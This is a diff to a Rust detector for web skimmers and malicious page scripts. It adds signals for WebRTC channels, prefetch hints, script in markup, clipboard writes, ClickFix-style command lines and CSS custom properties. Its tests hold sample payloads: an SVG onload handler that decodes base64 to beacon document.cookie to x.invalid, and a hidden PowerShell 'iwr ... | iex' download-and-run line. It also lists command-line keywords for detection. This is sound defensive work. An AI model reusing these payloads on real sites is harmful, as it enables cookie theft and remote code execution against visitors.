@@ -81,8 +81,9 @@ pub const STORAGE_WRITE: Signals = 1 << 31;
 /// counterfeit payment form drawn by the script.
 pub const FAKE_FORM: Signals = 1 << 32;
 
-/// Reaches a property or method whose name is decoded at run time (`document[atob("...")]`):
-/// loader stubs hide even the `createElement` they call.
+/// Reaches a property or method whose name is decoded at run time (`document[atob("...")]`)
+/// or assembled from pieces (`window["ev" + "al"]`): loader stubs hide even the
+/// `createElement` they call.
 pub const DECODED_NAME: Signals = 1 << 33;
 /// A base64 string literal whose text is a URL or behaviour vocabulary (`"c2NyaXB0"` is
 /// `script`): the decoded text's own signals are recorded as well.
@@ -91,9 +92,35 @@ pub const HIDDEN_TEXT: Signals = 1 << 34;
 /// is no constant a reader (or the baseline's host list) can see.
 pub const BUILT_URL: Signals = 1 << 35;
 
+/// A WebRTC peer connection or data channel (`RTCPeerConnection`, `createDataChannel`): a
+/// channel to a peer that a Content Security Policy's `connect-src` does not govern (Sansec
+/// on a skimmer that loads its code and sends its loot over one, 2021).
+pub const SINK_RTC: Signals = 1 << 36;
+/// A resource hint (`rel` of `dns-prefetch`, `prefetch`, `preconnect`, `prerender`): the
+/// browser looks the host up or fetches it, so a host made of data sends that data.
+pub const SINK_HINT: Signals = 1 << 37;
+/// Markup that carries script: a `<script>` element with a body or an event-handler
+/// attribute (`<svg onload="...">`). The words of that code are recorded as the script's
+/// own, since the browser runs them once the markup is written.
+pub const MARKUP_CODE: Signals = 1 << 38;
+/// Writes the clipboard (`navigator.clipboard.writeText`, `execCommand("copy")`).
+pub const CLIPBOARD: Signals = 1 << 39;
+/// A command line in a string (`powershell ... | iex`, `mshta https://...`, `cmd /c`): what
+/// fake-CAPTCHA pages put on the clipboard for the visitor to run.
+pub const SHELL_COMMAND: Signals = 1 << 40;
+/// Names a CSS custom property (`"--theme-font"`): text a stylesheet carries and a script can
+/// read back with `getComputedStyle`, out of sight of anyone reading the script.
+pub const STYLE_TEXT: Signals = 1 << 41;
+
 /// Every network sink.
-pub const SINKS: Signals =
-    SINK_XHR | SINK_FETCH | SINK_BEACON | SINK_IMAGE | SINK_WEBSOCKET | SINK_INJECT;
+pub const SINKS: Signals = SINK_XHR
+    | SINK_FETCH
+    | SINK_BEACON
+    | SINK_IMAGE
+    | SINK_WEBSOCKET
+    | SINK_INJECT
+    | SINK_RTC
+    | SINK_HINT;
 /// Every data source a skimmer reads.
 pub const SOURCES: Signals = SRC_FORM | SRC_VALUE | SRC_CARD | SRC_KEY | SRC_SUBMIT;
 
@@ -133,9 +160,15 @@ pub fn describe(bit: Signals) -> &'static str {
         FOCUS_SHIFT => "sends a window to the back",
         STORAGE_WRITE => "writes web storage",
         FAKE_FORM => "draws a form that asks for card data",
-        DECODED_NAME => "calls a method whose name is decoded at run time",
+        DECODED_NAME => "calls a method whose name is decoded or assembled at run time",
         HIDDEN_TEXT => "hides a URL or code words in base64 strings",
         BUILT_URL => "builds a destination host at run time",
+        SINK_RTC => "opens a WebRTC peer connection or data channel",
+        SINK_HINT => "adds a prefetch or DNS-prefetch hint",
+        MARKUP_CODE => "writes markup that carries script",
+        CLIPBOARD => "writes the clipboard",
+        SHELL_COMMAND => "carries a command line",
+        STYLE_TEXT => "names a CSS custom property",
         _ => "unknown signal",
     }
 }
@@ -166,7 +199,12 @@ pub fn name_signals(name: &str) -> Signals {
         "location" | "href" | "pathname" => LOCATION,
         "eval" | "Function" | "execScript" => DYN_EVAL,
         "atob" | "fromCharCode" | "unescape" => DECODE,
-        "CoinHive" | "CryptoLoot" | "CRLT" => MINER,
+        // `Anonymous` is the constructor every hosted miner's client library exposes
+        // (`CoinHive.Anonymous`, `CRLT.Anonymous`, `Client.Anonymous`) for mining
+        // without an account.
+        "CoinHive" | "CryptoLoot" | "CRLT" | "Anonymous" => MINER,
+        "RTCPeerConnection" | "webkitRTCPeerConnection" | "createDataChannel" => SINK_RTC,
+        "writeText" | "execCommand" | "clipboardData" => CLIPBOARD,
         "WebAssembly" => WASM,
         "Worker" | "SharedWorker" => WORKER,
         "userAgent" | "referrer" | "webdriver" => VISITOR_CHECK,
@@ -206,8 +244,13 @@ pub fn string_signals(value: &str) -> Signals {
         // An `<img>` made by the script requests its `src`, as `new Image()` does.
         "img" => SINK_IMAGE,
         "display:none" | "none" | "hidden" => HIDDEN,
+        "dns-prefetch" | "prefetch" | "preconnect" | "prerender" => SINK_HINT,
         _ => 0,
     };
+    if is_custom_property(value) {
+        s |= STYLE_TEXT;
+    }
+    s |= command_signals(value);
     if value.len() <= WORD_SCAN_MAX {
         s |= word_signals(value);
         // A credential field is named in a selector or a field name; a `password`
@@ -267,9 +310,35 @@ pub fn hidden_text(value: &str) -> Option<String> {
         .flatten()
 }
 
-/// The signals of the text a base64 literal hides, [`HIDDEN_TEXT`] included, and the host of
-/// a URL in it; `(0, None)` when it hides nothing the vocabulary knows.
+/// The signals of the text a string literal hides, [`HIDDEN_TEXT`] or [`MARKUP_CODE`]
+/// included, and the host of a URL in it; `(0, None)` when it hides nothing the vocabulary
+/// knows. Two kinds of string hide text: a base64 literal (its decoded text, read as code
+/// when it is code), and markup that carries script (the script's words and the attribute
+/// values it may read, which may be base64 themselves).
 pub fn hidden_signals(value: &str) -> (Signals, Option<String>) {
+    hidden_signals_within(value, HIDDEN_DEPTH)
+}
+
+/// How many layers of hiding (base64 in markup in base64...) are looked through.
+const HIDDEN_DEPTH: u8 = 2;
+
+fn hidden_signals_within(value: &str, depth: u8) -> (Signals, Option<String>) {
+    let code = markup_code(value);
+    if !code.is_empty() {
+        let (mut s, mut host) = (MARKUP_CODE, None);
+        for piece in code {
+            let (words, words_host) = code_signals(piece, depth);
+            s |= words;
+            host = host.or(words_host);
+            if depth > 0 {
+                // An attribute value may itself be base64 the handler decodes.
+                let (hidden, hidden_host) = hidden_signals_within(piece, depth - 1);
+                s |= hidden;
+                host = host.or(hidden_host);
+            }
+        }
+        return (s, host);
+    }
     let Some(text) = hidden_text(value) else {
         return (0, None);
     };
@@ -280,16 +349,114 @@ pub fn hidden_signals(value: &str) -> (Signals, Option<String>) {
     {
         s |= name_signals(&text);
     }
-    let host = url_host(&text);
+    let mut host = url_host(&text);
+    if depth > 0 && text.contains('(') {
+        // Decoded code: its words, its strings, and the first URL it names.
+        let (code, code_host) = code_signals(&text, depth - 1);
+        s |= code;
+        host = host.or(code_host);
+    }
     if s == 0 && host.is_none() {
         return (0, None);
     }
     (s | HIDDEN_TEXT, host)
 }
 
+/// Longest markup searched for script.
+const MARKUP_SCAN_MAX: usize = 16384;
+
+/// The code a piece of markup carries, when it carries any: the bodies of its `<script>`
+/// elements, the values of its event-handler attributes (`onload="..."`), and, since that
+/// code may read the element's other attributes (`this.getAttribute("data-x")`), every
+/// quoted attribute value beside them. Empty for markup without script (templates, icons)
+/// and for every string without a `<`.
+fn markup_code(value: &str) -> Vec<&str> {
+    let mut code = Vec::new();
+    if value.len() > MARKUP_SCAN_MAX || !value.contains('<') {
+        return code;
+    }
+    let lower = value.to_ascii_lowercase();
+    let mut from = 0;
+    while let Some(i) = lower[from..].find("<script") {
+        let open = from + i;
+        let Some(gt) = lower[open..].find('>') else {
+            break;
+        };
+        let body = open + gt + 1;
+        let end = lower[body..]
+            .find("</script")
+            .map_or(lower.len(), |e| body + e);
+        let script = value[body..end].trim();
+        if !script.is_empty() {
+            code.push(script);
+        }
+        from = end;
+    }
+    let mut handler = false;
+    let bytes = lower.as_bytes();
+    for (i, w) in bytes.windows(3).enumerate() {
+        // ` on<letters>=`: an event-handler attribute.
+        if !(w[0].is_ascii_whitespace() && w[1] == b'o' && w[2] == b'n') {
+            continue;
+        }
+        let name_end = bytes[i + 3..]
+            .iter()
+            .position(|b| !b.is_ascii_lowercase())
+            .map_or(bytes.len(), |p| i + 3 + p);
+        if name_end > i + 3 && bytes.get(name_end) == Some(&b'=') {
+            handler = true;
+            break;
+        }
+    }
+    if handler {
+        code.extend(quoted_pieces(value).into_iter().filter(|q| !q.is_empty()));
+    }
+    code
+}
+
+/// The pieces of `text` between matching single or double quotes, outermost first.
+fn quoted_pieces(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut rest = text;
+    while let Some(i) = rest.find(['"', '\'']) {
+        let quote = rest.as_bytes()[i] as char;
+        let after = &rest[i + 1..];
+        let Some(j) = after.find(quote) else {
+            break;
+        };
+        out.push(&after[..j]);
+        rest = &after[j + 1..];
+    }
+    out
+}
+
+/// The signals of code found as text (in markup or decoded from base64), read by its words
+/// as the lexical fallback reads a script that does not parse, with its quoted strings
+/// looked through for hidden text (`depth` more layers), and the first URL host it names.
+fn code_signals(code: &str, depth: u8) -> (Signals, Option<String>) {
+    let mut s = 0;
+    for word in code.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$')) {
+        if !word.is_empty() {
+            s |= name_signals(word) | event_signals(word);
+        }
+    }
+    let mut host = None;
+    for quoted in quoted_pieces(code) {
+        s |= string_signals(quoted);
+        host = host.or_else(|| url_host(quoted));
+        if depth > 0 {
+            let (hidden, hidden_host) = hidden_signals_within(quoted, depth - 1);
+            s |= hidden;
+            host = host.or(hidden_host);
+        }
+    }
+    (s, host)
+}
+
 /// Whether a string is a bare URL scheme that code completes with a computed host.
 pub fn is_bare_scheme(value: &str) -> bool {
-    matches!(value, "https://" | "http://" | "wss://" | "ws://")
+    // `"//" + host` is a protocol-relative URL: the page's own scheme, a computed host.
+    matches!(value, "https://" | "http://" | "wss://" | "ws://" | "//")
 }
 
 /// Longest name or string searched for vocabulary words: field names, selectors and URLs
@@ -405,6 +572,64 @@ const fn starts(lists: &[(&[&str], Signals)]) -> [u64; 1024] {
     set
 }
 
+/// Whether a string names a CSS custom property (`--theme-font-src`).
+fn is_custom_property(value: &str) -> bool {
+    value.len() > 2
+        && value.len() <= WORD_SCAN_MAX
+        && value.starts_with("--")
+        && value[2..]
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+}
+
+/// Longest string searched for a command line.
+const COMMAND_SCAN_MAX: usize = 2048;
+
+/// [`SHELL_COMMAND`] for a string with the vocabulary of a command line that downloads and
+/// runs something (Proofpoint and Sucuri on ClickFix: PowerShell with `iex`/`iwr`, `mshta`
+/// with a URL, `cmd /c`, `rundll32`, `certutil`, `curl ... | bash`). No library puts these
+/// in a string.
+fn command_signals(text: &str) -> Signals {
+    const COMMAND: &[&str] = &[
+        "powershell",
+        "pwsh ",
+        "mshta ",
+        "mshta.exe",
+        "cmd /c",
+        "cmd.exe",
+        "rundll32",
+        "certutil",
+        "bitsadmin",
+        "invoke-expression",
+        "invoke-webrequest",
+        "| iex",
+        "|iex",
+        "| bash",
+        "start-process",
+    ];
+    const LISTS: [(&[&str], Signals); 1] = [(COMMAND, SHELL_COMMAND)];
+    const STARTS: [u64; 1024] = starts(&LISTS);
+    if text.len() < 6 || text.len() > COMMAND_SCAN_MAX {
+        return 0;
+    }
+    let bytes = text.as_bytes();
+    for (i, pair) in bytes.windows(2).enumerate() {
+        let key = usize::from(pair[0].to_ascii_lowercase()) << 8
+            | usize::from(pair[1].to_ascii_lowercase());
+        if STARTS[key >> 6] & (1 << (key & 63)) == 0 {
+            continue;
+        }
+        let rest = &bytes[i..];
+        if COMMAND.iter().any(|w| {
+            rest.get(..w.len())
+                .is_some_and(|r| r.eq_ignore_ascii_case(w.as_bytes()))
+        }) {
+            return SHELL_COMMAND;
+        }
+    }
+    0
+}
+
 /// Longest markup searched for a counterfeit card form.
 const FORM_SCAN_MAX: usize = 8192;
 
@@ -426,6 +651,10 @@ fn is_fake_form(value: &str) -> bool {
         "expiry",
         "expiration",
         "mm/yy",
+        // `autocomplete` tokens of card fields.
+        "cc-number",
+        "cc-csc",
+        "cc-exp",
     ];
     lower.contains("<input") && WORDS.iter().filter(|w| lower.contains(*w)).count() >= 2
 }
@@ -505,6 +734,7 @@ pub fn url_host(value: &str) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::strategy::Strategy;
 
     #[test]
     fn hosts_come_out_of_urls() {
@@ -561,6 +791,102 @@ mod tests {
             "hello world: no vocabulary"
         );
         assert_eq!(hidden_signals("not base64!"), (0, None));
+    }
+
+    #[test]
+    fn markup_with_script_gives_up_its_code() {
+        // An event-handler attribute that runs base64 code kept in another attribute.
+        let icon = "<svg onload=\"eval(atob(this.getAttribute('data-x')))\" \
+                    data-x=\"bmF2aWdhdG9yLnNlbmRCZWFjb24oJ2h0dHBzOi8veC5pbnZhbGlkL2MnLGRvY3VtZW50LmNvb2tpZSk=\"/>";
+        let (s, host) = hidden_signals(icon);
+        assert_ne!(s & MARKUP_CODE, 0);
+        assert_ne!(s & DYN_EVAL, 0);
+        assert_ne!(s & DECODE, 0);
+        assert_ne!(s & SINK_BEACON, 0, "the decoded attribute's code");
+        assert_eq!(host.as_deref(), Some("x.invalid"));
+        // A script element's body.
+        let (s, _) = hidden_signals("<script>document.write(location.href)</script>");
+        assert_ne!(s & MARKUP_CODE, 0);
+        assert_ne!(s & SINK_INJECT, 0);
+        // Markup without script, and the empty script elements libraries write.
+        assert_eq!(
+            hidden_signals("<div class=\"x\" title=\"on=1\">once</div>"),
+            (0, None)
+        );
+        assert_eq!(hidden_signals("<script></script>"), (0, None));
+    }
+
+    /// Pieces of markup, quotes, base64 and text, joined at random: the markup reader
+    /// slices by positions it found, so it must hold on any mix of them.
+    fn markup_soup() -> impl Strategy<Value = String> {
+        const PIECES: &[&str] = &[
+            "<script>",
+            "</script>",
+            "<script",
+            "<svg ",
+            " onload=",
+            " on",
+            "=",
+            "\"",
+            "'",
+            ">",
+            "<",
+            "eval(",
+            "atob(",
+            ")",
+            "fetch('https://a.invalid/')",
+            "Zm9vKCk=",
+            "aHR0cHM6Ly9iLmludmFsaWQv",
+            "ü",
+            "€",
+            " ",
+            "x",
+            "--a",
+            "powershell ",
+        ];
+        proptest::collection::vec(0..PIECES.len(), 0..40)
+            .prop_map(|ix| ix.into_iter().map(|i| PIECES[i]).collect::<String>())
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn hidden_signals_hold_on_any_markup(soup in markup_soup()) {
+            let first = hidden_signals(&soup);
+            proptest::prop_assert_eq!(first, hidden_signals(&soup));
+            let _ = string_signals(&soup);
+        }
+
+        #[test]
+        fn a_sink_in_a_handler_attribute_is_always_seen(
+            before in markup_soup().prop_filter("no quote", |s| !s.contains(['"', '\''])),
+        ) {
+            let markup = format!("{before}<img src=x onerror=\"navigator.sendBeacon('/c', 1)\">");
+            let (s, _) = hidden_signals(&markup);
+            proptest::prop_assert_ne!(s & MARKUP_CODE, 0);
+            proptest::prop_assert_ne!(s & SINK_BEACON, 0);
+        }
+    }
+
+    #[test]
+    fn channels_commands_and_style_text_are_recognised() {
+        assert_ne!(name_signals("RTCPeerConnection") & SINKS, 0);
+        assert_ne!(string_signals("dns-prefetch") & SINK_HINT, 0);
+        assert_eq!(string_signals("preload") & SINKS, 0, "media preloading");
+        assert_ne!(
+            string_signals("powershell -w hidden -c \"iwr https://x.invalid/a | iex\"")
+                & SHELL_COMMAND,
+            0
+        );
+        assert_ne!(
+            string_signals("MSHTA https://x.invalid/v.hta") & SHELL_COMMAND,
+            0
+        );
+        assert_eq!(string_signals("Press Ctrl + V to paste") & SHELL_COMMAND, 0);
+        assert_ne!(string_signals("--theme-font-src") & STYLE_TEXT, 0);
+        assert_eq!(string_signals("--") & STYLE_TEXT, 0);
+        assert_eq!(string_signals("--x y") & STYLE_TEXT, 0);
+        assert_ne!(name_signals("writeText") & CLIPBOARD, 0);
+        assert!(is_bare_scheme("//"));
     }
 
     #[test]
